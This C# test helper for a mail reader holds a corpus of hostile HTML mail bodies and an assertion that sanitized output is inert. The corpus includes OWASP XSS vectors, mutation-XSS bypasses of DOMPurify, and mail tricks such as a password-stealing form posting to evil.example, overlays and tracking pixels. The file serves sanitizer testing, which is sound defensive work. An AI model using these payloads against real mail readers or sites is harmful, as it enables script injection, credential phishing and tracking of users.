using AngleSharp.Dom;

namespace FuncMail.Tests.Infrastructure;

/// <summary>
/// Mail bodies built to attack a mail reader, and the check that a sanitized one is inert. The sanitizer tests run
/// every case; the browser test sends them all in one message through the real worker into Chromium.
/// Sources:
/// <list type="bullet">
/// <item>OWASP, "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html):
/// the "owasp:" cases, each one of its vectors;</item>
/// <item>mutation XSS: M. Heiderich et al., "mXSS Attacks" (CCS 2013); M. Bentkowski's DOMPurify 2.0.0 bypass
/// (noscript, 2019) and the math/mglyph bypass behind CVE-2020-26870; G. Heyes' svg/style bypass of DOMPurify 2.0.17:
/// the "mxss:" cases;</item>
/// <item>what mail readers strip (Roundcube's rcube_washtml, SnappyMail's cleanHtml): the "mail:" cases.</item>
/// </list>
/// </summary>
public static class HostileMail
{
    /// <summary>The host every remote reference in the corpus points at; nothing may ever be fetched from it.</summary>
    public const string EvilHost = "evil.example";

    public static TheoryData<string, string> Cases { get; } = new()
    {
        { "owasp: script tag", "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT><script>alert('script')</script>" },
        { "owasp: img onerror", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>" },
        { "owasp: javascript img src", "<IMG SRC=\"javascript:alert('XSS');\"><IMG SRC=JaVaScRiPt:alert('XSS')><IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>" },
        { "owasp: entity-encoded javascript", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;><a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">e</a>" },
        { "owasp: embedded tab and newline", "<IMG SRC=\"jav\tascript:alert('XSS');\"><a href=\"jav&#x0A;ascript:alert('XSS');\">n</a><a href=\" &#14;  javascript:alert('XSS');\">s</a>" },
        { "owasp: malformed a tag", "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\><a onmouseover=alert(document.cookie)>xxs link</a>" },
        { "owasp: non-alpha separators", "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT><BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>" },
        { "owasp: extraneous open brackets", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>" },
        { "owasp: half-open html", "<IMG SRC=\"`<javascript:alert>`('XSS')\"<iframe src=https://evil.example/frame <" },
        { "owasp: end title", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>" },
        { "owasp: input image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\"><input autofocus onfocus=alert(1)>" },
        { "owasp: body background", "<BODY BACKGROUND=\"javascript:alert('XSS')\"><BODY ONLOAD=alert('XSS')>" },
        { "owasp: img dynsrc lowsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">" },
        { "owasp: svg onload", "<svg/onload=alert('XSS')><svg><script>alert(1)</script></svg>" },
        { "owasp: style expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\"><DIV STYLE=\"width: expression(alert('XSS'));\">e</DIV><DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">u</DIV>" },
        { "owasp: style tag", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE><STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>" },
        { "owasp: meta refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\"><META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=https://evil.example/;URL=javascript:alert('XSS');\">" },
        { "owasp: iframe and frameset", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME><IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME><FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>" },
        { "owasp: table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">t</TD></TR></TABLE>" },
        { "owasp: object embed", "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT><EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>" },
        { "owasp: link stylesheet", "<LINK REL=\"stylesheet\" HREF=\"https://evil.example/xss.css\"><STYLE>@import'https://evil.example/xss.css';</STYLE><LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">" },
        { "owasp: base href", "<BASE HREF=\"https://evil.example/\"><a href=\"relative\">r</a><img src=\"relative.png\">" },
        { "owasp: div background url", "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">d</DIV>" },
        { "owasp: vbscript and livescript", "<IMG SRC='vbscript:msgbox(\"XSS\")'><a href=\"vbscript:msgbox(1)\">v</a><a href=\"livescript:[code]\">l</a>" },
        { "owasp: data uri", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">d</a><img src=\"data:image/svg+xml,<svg onload=alert(1)>\">" },
        { "owasp: xml namespace", "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"https://evil.example/xss.htc\"><xss:xss>XSS</xss:xss></HTML>" },
        { "owasp: html comment and cdata", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]--><![CDATA[<script>alert(1)</script>]]>" },
        { "mxss: noscript title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>" },
        { "mxss: math mglyph style", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>" },
        { "mxss: svg p style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">" },
        { "mxss: backtick attribute", "<img src=\"test.jpg\" alt=\"``onload=alert(1)\">" },
        { "mxss: listing and textarea", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><textarea><img src=x onerror=alert(1)></textarea>" },
        { "mxss: template", "<template><img src=x onerror=alert(1)></template><select><template><style></template><img src=x onerror=alert(1)></style></template></select>" },
        { "mail: form phishing", "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"><button formaction=\"https://evil.example/b\">Log in</button></form>" },
        { "mail: fixed overlay", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff\">Your session expired. <a href=\"https://evil.example/login\">Sign in</a></div>" },
        { "mail: style block overlay", "<style>body:after{content:'';position:fixed;inset:0;background:url(https://evil.example/overlay.png)} @font-face{font-family:x;src:url(https://evil.example/f.woff)} @keyframes k{from{color:red}}</style><p>x</p>" },
        { "mail: remote css url", "<p style=\"background:url(https://evil.example/bg.png)\">p</p><p style=\"background-image:url('http://evil.example/bg2.png')\">q</p><p style=\"list-style-image:url(//evil.example/li.png)\">r</p>" },
        { "mail: srcset and background attribute", "<img srcset=\"https://evil.example/a.png 1x, https://evil.example/b.png 2x\" alt=\"s\"><table background=\"https://evil.example/t.png\"><tr><td background=\"http://evil.example/td.png\">t</td></tr></table><picture><source srcset=\"https://evil.example/p.png\"></picture>" },
        { "mail: remote media", "<video src=\"https://evil.example/v.mp4\" poster=\"https://evil.example/p.png\"></video><audio src=\"https://evil.example/a.mp3\"></audio><object data=\"https://evil.example/o.swf\"></object>" },
        { "mail: top navigation", "<a href=\"https://evil.example/top\" target=\"_top\">top</a><a href=\"https://evil.example/parent\" target=\"_parent\">parent</a><area href=\"https://evil.example/area\" target=\"_top\">" },
        { "mail: relative and protocol-relative", "<a href=\"/api/SignOut\">signout</a><a href=\"//evil.example/pr\">pr</a><img src=\"/api/Mail\"><img src=\"//evil.example/pr.png\">" },
        { "mail: svg and math tricks", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><image href=\"https://evil.example/i.png\"/></svg><math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">m</maction></math>" },
        { "mail: tracking pixel", "<img src=\"https://evil.example/open?id=42\" width=\"1\" height=\"1\" alt=\"\"><img src=\"https://evil.example/open2\" style=\"display:none\">" },
        // Found in review: HtmlSanitizer 10.0.1120 leaves a whole <style> rule unsanitized when it holds a shorthand with
        // parts left out; a link's own address reused as a CSS url(); image-set() with a bare string.
        { "review: style shorthand bypass", "<style>p{font:12px serif;background-image:url(https://evil.example/x.png);position:fixed;z-index:9;cursor:url(https://evil.example/c.cur),auto}@media screen{p{font:12px serif;content:url(https://evil.example/m.png)}}</style><p>styled</p>" },
        { "review: link address as background", "<a href=\"https://evil.example/p.gif\" style=\"background-image:url(https://evil.example/p.gif)\">x</a>" },
        { "review: image-set bare string", "<div style=\"background-image:image-set('https://evil.example/a.png' 1x)\">i</div><style>div{background-image:-webkit-image-set('https://evil.example/b.png' 1x)}</style>" },
        { "review: spoofed FuncMail notice", "<div class=\"funcmail-notices\"><p class=\"funcmail-notice\">Your session has ended. <a href=\"https://evil.example/login\">Sign in again</a></p></div>" },
        // Found in the second review: CSS written back unescaped closing its own element; a quoted url() the
        // pattern could not read whole.
        { "review 2: escaped style close", "<style>a[title=\"\\3c /style\\3e \\3c img src=https://evil.example/x width=1\\3e \"]{color:red}</style><p>after</p>" },
        { "review 2: quoted url with a quote", "<style>p{font:12px serif;background-image:url(\"https://evil.example/a'b\")}</style><p>q</p>" },
        { "mail: dns prefetch and ping", "<link rel=\"dns-prefetch\" href=\"//evil.example\"><a href=\"https://contoso.example/\" ping=\"https://evil.example/ping\">ok</a><link rel=\"preload\" href=\"https://evil.example/pre\" as=\"image\">" },
    };

    private static readonly HashSet<string> Allowed = new(FuncMail.Mail.MailHtml.AllowedTags.Concat(["html", "head", "body", "meta"]), StringComparer.OrdinalIgnoreCase);

    /// <summary>Fails unless a sanitized body holds nothing that runs, no link but http/https/mailto, and (images off) nothing that loads.</summary>
    public static void AssertInert(string name, string html, bool imagesAllowed)
    {
        var page = PageParsing.Parse(html);
        foreach (var element in page.All)
        {
            Assert.True(Allowed.Contains(element.LocalName), $"{name}: <{element.LocalName}> survived\n{html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{name}: {attribute.Name} survived\n{html}");
                Assert.False(attribute.Name is "srcset" or "formaction" or "ping" or "xlink:href" or "http-equiv", $"{name}: {attribute.Name} survived\n{html}");
            }

            if (element.LocalName == "meta")
            {
                Assert.Equal(["charset"], element.Attributes.Select(a => a.Name));
            }

            if (element.GetAttribute("href") is { } href)
            {
                Assert.True(
                    href.StartsWith("https://", StringComparison.Ordinal) || href.StartsWith("http://", StringComparison.Ordinal) || href.StartsWith("mailto:", StringComparison.Ordinal),
                    $"{name}: href {href} survived\n{html}");
                Assert.Equal("_blank", element.GetAttribute("target"));
                Assert.Equal("noopener noreferrer", element.GetAttribute("rel"));
            }

            foreach (var url in new[] { element.GetAttribute("src"), element.GetAttribute("background") })
            {
                if (url is not null)
                {
                    Assert.True(imagesAllowed ? url.StartsWith("https://", StringComparison.Ordinal) : url.StartsWith("/api/Attachment?", StringComparison.Ordinal), $"{name}: image {url} survived\n{html}");
                }
            }

            var css = element.LocalName == "style" ? element.TextContent : element.GetAttribute("style") ?? "";
            foreach (var banned in new[] { "expression", "javascript", "@import", "@font-face", "position", "behavior", "-moz-binding", "content:" })
            {
                Assert.DoesNotContain(banned, css, StringComparison.OrdinalIgnoreCase);
            }

            if (!imagesAllowed)
            {
                Assert.DoesNotContain("url(", css, StringComparison.OrdinalIgnoreCase);
            }
        }

        Assert.Single(page.QuerySelectorAll("body"));
    }
}
